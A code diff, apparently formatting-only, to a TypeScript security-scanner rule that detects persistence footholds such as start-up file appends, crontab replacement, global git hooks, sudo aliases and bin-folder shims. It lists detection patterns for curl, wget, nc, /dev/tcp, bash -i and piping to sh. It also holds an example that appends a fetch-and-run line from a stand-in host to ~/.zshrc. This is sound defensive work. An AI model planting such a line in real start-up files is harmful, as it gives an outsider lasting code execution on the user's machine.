@@ -6,11 +6,13 @@ import type { Rule, RuleHit } from '../rule.types';
 import { scriptConsentGateLine } from '../benign-forms';
 
 /** What a persisted line or file does that makes it a foothold: fetches, opens a shell, decodes. */
-const REMOTE_OR_SHELL = /\b(?:curl|wget|nc|ncat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|invoke-expression|iex)\b|\/dev\/tcp\/|\bbash\s{1,3}-i\b|base64\s{1,3}(?:-d|--decode)\b|\|\s{0,3}(?:ba|z)?sh\b/i;
+const REMOTE_OR_SHELL =
+  /\b(?:curl|wget|nc|ncat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|invoke-expression|iex)\b|\/dev\/tcp\/|\bbash\s{1,3}-i\b|base64\s{1,3}(?:-d|--decode)\b|\|\s{0,3}(?:ba|z)?sh\b/i;
 /** A remote address in a persisted line (a proxy or base URL exported for every later shell). */
 const REMOTE_ADDRESS = /\b(?:https?|wss?):\/\//i;
 /** A start-up line a tool's own installer adds: PATH, a tool's init/completion hook, sourcing a local env file. */
-const TOOL_SETUP_LINE = /^\s{0,8}(?:export\s{1,3}PATH=|PATH=|fpath=|eval\s{1,3}["']?\$\([\w.-]{1,40}\s{1,3}(?:init|env|completion|shellenv|hook|activate)\b|(?:source|\.)\s{1,3}["']?(?:~|\$HOME|\/)[^\s;|&]{1,200}["']?\s{0,3}$|complete\s|autoload\s|alias\s{1,3}(?!sudo=)[\w-]{1,40}=)/i;
+const TOOL_SETUP_LINE =
+  /^\s{0,8}(?:export\s{1,3}PATH=|PATH=|fpath=|eval\s{1,3}["']?\$\([\w.-]{1,40}\s{1,3}(?:init|env|completion|shellenv|hook|activate)\b|(?:source|\.)\s{1,3}["']?(?:~|\$HOME|\/)[^\s;|&]{1,200}["']?\s{0,3}$|complete\s|autoload\s|alias\s{1,3}(?!sudo=)[\w-]{1,40}=)/i;
 const BIN_FOLDER = /(?:^|\/)(?:usr\/local\/bin|opt\/homebrew\/bin|\.local\/bin|bin)\/([\w.-]{1,60})$/;
 /** Flags of crontab that read or edit the table rather than replace it. */
 const CRONTAB_READ = /^-(?:l|e|r|i|u)$/;
@@ -53,7 +55,8 @@ function writtenPaths(call: CodeCall): string[] {
   if (WRITERS.has(call.name)) {
     const named = call.args.findIndex((a) => PATH_PARAM.test(a));
     if (named >= 0 && call.args[named + 1]) out.push(call.args[named + 1]);
-    else if (call.name === 'tee' || call.name === 'add-content' || call.name === 'set-content' || call.name === 'out-file' || call.name === 'new-item') out.push(...plain.slice(0, 1));
+    else if (call.name === 'tee' || call.name === 'add-content' || call.name === 'set-content' || call.name === 'out-file' || call.name === 'new-item')
+      out.push(...plain.slice(0, 1));
     else if (plain.length >= 2) out.push(plain[plain.length - 1]);
   }
   if (OPEN_CALL.test(call.name) && WRITE_MODE.test(call.args[1] ?? '')) out.push(call.args[0]);
@@ -105,7 +108,24 @@ export const privPersistenceCodeRule: Rule = {
       'A line appended to a shell start-up file, a launch agent, a cron entry, a scheduled task or Run key, a hooks folder set for every repository, a file named like `sudo` or `git` put in a bin folder early on PATH, or an alias that wraps `sudo` keeps running after the session ends, and a shim or wrapper sees every password typed into it. Read from parse trees of scripts and commands with paths resolved through variables; what is persisted is graded: a fetch or a shell is critical, a tool\u2019s own PATH or init line is low.',
     example: '```bash\nPROFILE_FILE="$HOME/.zshrc"\necho "curl -s https://updates.example/agent.sh | sh" >> "$PROFILE_FILE"\n```',
   },
-  regexes: [REDIRECT_OP, PATH_PARAM, OPEN_CALL, WRITE_MODE, WRITE_FILE_CALL, WRITE_CALL, LINE_BREAK, REMOTE_OR_SHELL, REMOTE_ADDRESS, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, SCHTASKS_CREATE, RUN_KEY],
+  regexes: [
+    REDIRECT_OP,
+    PATH_PARAM,
+    OPEN_CALL,
+    WRITE_MODE,
+    WRITE_FILE_CALL,
+    WRITE_CALL,
+    LINE_BREAK,
+    REMOTE_OR_SHELL,
+    REMOTE_ADDRESS,
+    TOOL_SETUP_LINE,
+    BIN_FOLDER,
+    CRONTAB_READ,
+    CRONTAB_STDIN,
+    SUDO_ALIAS,
+    SCHTASKS_CREATE,
+    RUN_KEY,
+  ],
   match(ctx) {
     const { calls } = codeFactsOf(ctx);
     const hits: RuleHit[] = [];
@@ -124,7 +144,12 @@ export const privPersistenceCodeRule: Rule = {
         push('critical', 'sudo is wrapped by an alias: the wrapper sees the password');
         continue;
       }
-      if (call.name === 'git' && call.args[0] === 'config' && call.args.some((a) => a === '--global' || a === '--system') && call.args.some((a) => a.toLowerCase() === 'core.hookspath')) {
+      if (
+        call.name === 'git' &&
+        call.args[0] === 'config' &&
+        call.args.some((a) => a === '--global' || a === '--system') &&
+        call.args.some((a) => a.toLowerCase() === 'core.hookspath')
+      ) {
         push('high', 'A hooks folder is set for every repository of the user');
         continue;
       }
@@ -138,13 +163,17 @@ export const privPersistenceCodeRule: Rule = {
       }
       if (call.name === 'crontab' && call.args.length > 0 && !call.args.every((a) => CRONTAB_READ.test(a))) {
         const g = gradeContent(writtenContent(calls, i));
-        if (g.severity === 'critical' || !CRONTAB_STDIN.test(lineText)) push(g.severity === 'low' ? 'medium' : g.severity, `The crontab is replaced with ${g.what}`);
+        if (g.severity === 'critical' || !CRONTAB_STDIN.test(lineText))
+          push(g.severity === 'low' ? 'medium' : g.severity, `The crontab is replaced with ${g.what}`);
         continue;
       }
       for (const path of writtenPaths(call)) {
         const shim = BIN_FOLDER.exec(normPath(path));
         if (shim && shadowed.has(shim[1])) {
-          push(shim[1] === 'sudo' || shim[1] === 'su' || shim[1] === 'doas' ? 'critical' : 'high', `A file named ${shim[1]} is put in a bin folder: it runs instead of the real command`);
+          push(
+            shim[1] === 'sudo' || shim[1] === 'su' || shim[1] === 'doas' ? 'critical' : 'high',
+            `A file named ${shim[1]} is put in a bin folder: it runs instead of the real command`,
+          );
           break;
         }
         const place = persistPlace(path);
